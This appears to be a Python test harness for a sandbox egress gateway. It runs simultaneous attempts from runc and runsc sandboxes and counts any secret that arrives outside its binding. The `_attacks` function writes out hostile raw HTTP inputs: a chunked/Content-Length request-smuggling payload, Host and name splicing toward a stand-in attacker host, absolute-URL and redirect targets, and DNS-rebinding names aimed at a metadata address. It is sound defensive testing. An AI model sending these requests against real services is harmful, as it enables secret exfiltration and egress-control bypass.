"""The far-end suite: every attempt of the demo and every way to mislead a secret, from one sandbox, all at once.

What counts is what arrived outside: frames at the attacker, tunnelled names, connections to the host or the gateway,
frames in the neighbour, kernel doors, and the secret anywhere but where its owner bound it.
"""

import json
import time
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from opensandbox.exceptions import SandboxException

from demo import raw_client
from demo.attempts import Evidence, FarEnd, Report, arrived, report
from demo.capture import Capture
from demo.far_end import GATEWAY_CANARY_PORTS, control_targets, end, probe_environment, sandbox_targets
from demo.internet import ADDRESSES, API, ATTACKER, DNS_ADDRESS, METADATA_ADDRESS, Internet
from demo.leaks import forms_of, leaks_in
from demo.privileged import PrivilegedContainer
from demo.raw_attacks import Attack
from demo.sandboxes import _nsenter
from demo.ungate import far_end_of
from lifecycle.posture import ways_out
from lifecycle.posture.ways_out import MARKER
from tests.security.layers.stack import POLICY, LayeredStack
from tests.security.layers.substitutes import FAILING, PLANTED, UNJUDGED, UNRECORDED

RUNTIMES = ("runc", "runsc")
SETTLE_SECONDS, SETTLED_AT_MOST = 0.3, 6.0
OUTSIDE = "the secret outside of its binding"
RETURNED = "the secret in an answer"
UNJUDGED_ARRIVES = "a request that nobody judged"
PLANTED_ARRIVES = "a file of the host at the attacker"
FIRST, DELETED = "/v1/first", "/v1/deleted"
"""Where the forbidden method goes: before any secret was released to the worker, and after."""


def _get(path: str, host: str = API, method: str = "GET") -> str:
    return "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close")) + "\r\n\r\n"


def _attacks() -> Iterator[Attack]:
    yield Attack("another path", (_get("/admin/denied"),))
    yield Attack("another method", (_get(DELETED, method="DELETE"),))
    yield Attack("another Host", (_get("/v1/other-host", ATTACKER),))
    yield Attack("a spliced name, the bound Host", (_get("/v1/x"),), ATTACKER, ATTACKER)
    yield Attack("the bound name at the attacker", (_get("/v1/x"),), API, ATTACKER)
    yield Attack("the bound Host in clear", (_get("/v1/x"),), None, ATTACKER, 80)
    yield Attack("an absolute target", (_get(f"https://{ATTACKER}/v1/absolute"),))
    yield Attack("an absolute target in clear", (_get(f"http://{ATTACKER}/v1/x"),), None, ATTACKER, 80)
    yield Attack("a redirect", (_get("/v1/redirect?to=attacker&status=302"),))
    smuggled = f"0\r\n\r\n{_get('/admin/smuggled')}"
    framing = (f"POST /v1/framing HTTP/1.1\r\nHost: {API}\r\n", "Transfer-Encoding: chunked\r\n")
    yield Attack("two framings", (f"{framing[0]}Content-Length: {len(smuggled)}\r\n{framing[1]}\r\n{smuggled}",))
    yield from (Attack(path, (_get(path),)) for path in (UNJUDGED, FAILING, UNRECORDED))
    for form in ("plain", "json", "gzip"):
        yield Attack(f"an echo, {form}", (_get(f"/v1/echo?form={form}"),))
    for label in ("rebind", "loopback", "this-host", "the-host", "mixed", "alias-inside"):
        name = f"{label}.bank.example"
        yield Attack(f"{name} in clear", (_get("/", name),), None, METADATA_ADDRESS, 80)
        yield Attack(f"{name}", (_get("/", name),), name, METADATA_ADDRESS, 443)


BATCHES = (
    (Attack("another method first", (_get(FIRST, method="DELETE"),)),),
    (Attack("honest", (_get("/v1/honest"),)),),
    tuple(_attacks()),
)
"""One batch after the other; the attacks of one at the same time."""


@dataclass(frozen=True, slots=True)
class Seen:
    """What one sandbox's suite brought to light. `refused`: why there was no sandbox at all."""

    leaks: dict[str, int] = field(default_factory=dict)
    refused: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    requests: tuple[tuple[str, str, str], ...] = ()
    """Host, method and target of each request that a server received."""
    outside: tuple[str, ...] = ()
    """Targets of the requests that had the secret outside of its binding."""

    @property
    def held(self) -> bool:
        return not self.leaks


class Pair:
    """A sandbox on each runtime, made under the present switches."""

    def __init__(
        self, internet: Internet, stack: LayeredStack, secret: str, runtimes: tuple[str, ...] = RUNTIMES
    ) -> None:
        self.internet, self.stack, self._secret = internet, stack, secret
        self.first_note = len(notes(internet))
        with ThreadPoolExecutor(len(runtimes)) as pool:
            made = pool.map(self._make, runtimes)
        self.sandboxes: dict[str, Any] = dict(zip(runtimes, made, strict=True))
        self.seen: dict[str, Seen] = {}

    def _make(self, runtime: str) -> Any:
        known = self.stack.log.stat().st_size
        try:
            return self.stack.create(runtime, policy=POLICY)
        except SandboxException as error:
            return self._refusals(known) or str(error)

    def _refusals(self, known: int) -> str:
        """What the server's log says of creations that failed since it had `known` bytes: clients read no details."""
        lines = self.stack.log.read_bytes()[known:].decode("utf-8", "replace").splitlines()
        return "; ".join(line for line in lines if "creation failed" in line)

    def id(self, runtime: str) -> str:
        return str(self.sandboxes[runtime].id)

    def close(self) -> None:
        for sandbox in self.sandboxes.values():
            if not isinstance(sandbox, str):
                sandbox.kill()
                sandbox.close()

    def attack(self, *, apart: bool = False) -> dict[str, Seen]:
        """Run the suite from both sandboxes at once; when anything arrives, again from each, to tell whose it was.

        A sandbox that was never made is held, by whoever refused it.
        """
        made = [runtime for runtime, sandbox in self.sandboxes.items() if not isinstance(sandbox, str)]
        seen = self._attack(made) if made and not apart else {}
        if apart or (len(made) > 1 and any(one.leaks for one in seen.values())):
            seen = {runtime: self._attack([runtime])[runtime] for runtime in made}
        refused = {name: Seen(refused=one) for name, one in self.sandboxes.items() if isinstance(one, str)}
        self.seen = seen | refused
        return self.seen

    def _attack(self, runtimes: list[str]) -> dict[str, Seen]:
        internet, net = self.internet, self.internet.path(self.internet.net)
        every = [self.id(name) for name, one in self.sandboxes.items() if not isinstance(one, str)]
        with ExitStack() as resources:
            wires = [resources.enter_context(Capture(net, "net0"))]
            near = {}
            for name in every:
                uplink = far_end_of(int(self.stack.host("inspect", sandbox=name)["slot"]) % 32)
                if _nsenter(net, "link", "show", uplink):
                    wires.append(resources.enter_context(Capture(net, uplink)))
                near[name] = resources.enter_context(Capture(self.stack.netns(name, "sbx"), "eth0"))
                gateway = self.stack.netns(name, "gw")
                resources.callback(end, internet.start_canary(gateway, f"gateway-{name}", *GATEWAY_CANARY_PORTS))
            first, host = len(notes(internet)), _host_hits(internet)
            gateways = {name: internet.canary_hits(f"gateway-{name}") for name in every}
            with ThreadPoolExecutor(len(runtimes)) as pool:
                ran = dict(zip(runtimes, pool.map(self._run, runtimes), strict=True))
            settle(internet, wires)
            frames = [frame for wire in wires for frame in wire.since(0)]
            hits, noted = _host_hits(internet) - host, notes(internet)
            found = {}
            for runtime, (saw, answers) in ran.items():
                own = self.id(runtime)
                neighbours = [frame for name in every if name != own for frame in near[name].since(0)]
                reached = internet.canary_hits(f"gateway-{own}") - gateways[own]
                evidence = Evidence(frames, neighbours, hits, reached, saw)
                counts = {far_end.value: arrived(far_end, evidence) for far_end in FarEnd}
                outside = self._outside(noted[first:])
                # Both are at it at once: what the gate answers the neighbour itself is not what we look for.
                counts[FarEnd.NEIGHBOUR.value] = sum(_marker(runtime) in frame.data for frame in neighbours)
                counts |= {OUTSIDE: len(outside)} | self._returned(noted[first:], answers)
                counts[PLANTED_ARRIVES] = sum(PLANTED in json.dumps(note) for note in noted[self.first_note :])
                requests = [note for note in noted[first:] if "target" in note]
                found[runtime] = Seen(
                    {what: count for what, count in counts.items() if count},
                    "",
                    answers,
                    tuple((str(note["host"]), str(note["method"]), str(note["target"])) for note in requests),
                    tuple(str(note.get("target", "")) for note in outside),
                )
        return found

    def _run(self, runtime: str) -> tuple[Report, dict[str, str]]:
        """The workload's attempts and the exact bytes, all at once; then those of a privileged container."""
        sandbox = self.sandboxes[runtime]
        for module in (ways_out, raw_client):
            path = Path(str(module.__file__))
            sandbox.files.write_file(f"/tmp/{path.name}", path.read_text())
        for at, batch in enumerate(BATCHES):
            sandbox.files.write_file(f"/tmp/{at}.json", json.dumps({one.name: one.case("") for one in batch}))
        sandbox.files.write_file("/tmp/targets.json", probe_environment(_targets(runtime)))
        netns = self.stack.netns(str(sandbox.id), "sbx")
        done = sandbox.commands.run(
            "for at in 0 1 2; do python3 /tmp/raw_client.py </tmp/$at.json >/tmp/$at.results; done & "
            'PROBE_TARGETS="$(cat /tmp/targets.json)" python3 /tmp/ways_out.py one all; status=$?; wait; exit $status'
        )
        printed = "".join(message.text for message in (*done.logs.stdout, *done.logs.stderr))
        results: dict[str, dict[str, Any]] = {}
        for at in range(len(BATCHES)):
            results |= json.loads(sandbox.files.read_file(f"/tmp/{at}.results"))
        # Not at the same time: on runsc the address that the container needs makes the host answer for the sandbox.
        with _address_restored(netns), PrivilegedContainer(netns, _targets(runtime), "192.0.2.1") as container:
            container.attempt("all")
        saw = report("all", done.exit_code, printed)
        return saw, {name: str(result["received"]) for name, result in results.items()}

    def _outside(self, noted: list[dict[str, Any]]) -> list[dict[str, Any]]:
        forms = forms_of(self._secret)
        return [
            note
            for note in noted
            if leaks_in([json.dumps(note).encode()], forms)
            and not (note["host"] == API and ("heard" in note or _bound(note)))
        ]

    def _returned(self, noted: list[dict[str, Any]], answers: dict[str, str]) -> dict[str, int]:
        bodies = [text.encode("latin-1").partition(b"\r\n\r\n")[2] for text in answers.values()]
        texts = [text.encode("latin-1") for text in answers.values()]
        return {
            RETURNED: leaks_in([*texts, *bodies], forms_of(self._secret)),
            UNJUDGED_ARRIVES: sum(note.get("target") in (UNJUDGED, FAILING) for note in noted),
        }


def _marker(runtime: str) -> bytes:
    return f"{MARKER.decode()}-{runtime:->5}".encode()  # as long as one another, and even: a checksum is made of it


def _targets(runtime: str) -> dict[str, object]:
    return sandbox_targets() | {"marker": _marker(runtime).decode()}


def _bound(note: dict[str, Any]) -> bool:
    return note.get("method") in ("GET", "POST") and str(note.get("target")).startswith("/v1/")


def _host_hits(internet: Internet) -> int:
    return internet.canary_hits("host") + internet.canary_hits("host-web")


def settle(internet: Internet, wires: Sequence[Capture]) -> None:
    """Until nothing has come anywhere for a moment, neither a frame nor a note; not for ever."""
    deadline, before = time.monotonic() + SETTLED_AT_MOST, [-1]
    while before != (before := [internet.request_log.stat().st_size, *(wire.mark() for wire in wires)]):
        if time.monotonic() > deadline:
            break
        time.sleep(SETTLE_SECONDS)


def notes(internet: Internet) -> list[dict[str, Any]]:
    """What the servers noted; questions to the name server are none of it."""
    return [note for note in internet.notes() if note["host"] != DNS_ADDRESS]


@contextmanager
def _address_restored(netns: str) -> Iterator[None]:
    """See `DemoSandbox.address_restored`."""
    added = _nsenter(netns, "addr", "add", "192.0.2.2/30", "dev", "eth0")
    _nsenter(netns, "route", "add", "default", "via", "192.0.2.1", "dev", "eth0")
    try:
        yield
    finally:
        if added:
            _nsenter(netns, "addr", "del", "192.0.2.2/30", "dev", "eth0")


def control(internet: Internet) -> set[FarEnd]:
    """The far ends that see the same probes, all at once, from where no gate stands."""
    net = internet.path(internet.net)
    canary = internet.start_canary(net, "control-gateway", *GATEWAY_CANARY_PORTS)
    try:
        with (
            Capture(net, "net1") as wire,
            PrivilegedContainer(internet.path(internet.control), control_targets(), DNS_ADDRESS) as container,
        ):
            host = _host_hits(internet)
            saw = container.attempt("all")
            settle(internet, [wire])
            frames = wire.since(0)
            hits = _host_hits(internet) - host, internet.canary_hits("control-gateway")
        return {far_end for far_end in FarEnd if arrived(far_end, Evidence(frames, frames, *hits, saw))}
    finally:
        end(canary)


__all__ = ["ADDRESSES", "Pair", "Seen", "control", "notes"]
